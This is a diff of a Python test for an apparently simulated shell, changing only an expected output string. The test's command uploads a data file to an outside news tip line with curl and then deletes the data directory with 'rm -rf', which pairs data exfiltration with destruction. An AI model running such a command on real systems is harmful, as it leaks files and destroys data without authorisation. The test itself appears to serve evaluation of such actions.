@@ -89,7 +89,7 @@ def test_unknown_internal_recipient_bounces(sh, world: World) -> None:
 
 def test_upload_to_a_tip_line_then_destroy_the_data(sh, world: World) -> None:
     result = sh(world, "curl -F file=@/data/x.csv https://tips.example-news.com/upload && rm -rf /data")
-    assert result.output.startswith("Thank you. Your reference is EXAMPLE-NEWS-")
+    assert result.output.startswith("Thank you. Your reference is EXAMPLE-0000")
     upload = only(world, "http_request")
     assert summary(upload) == (
         "http_request",
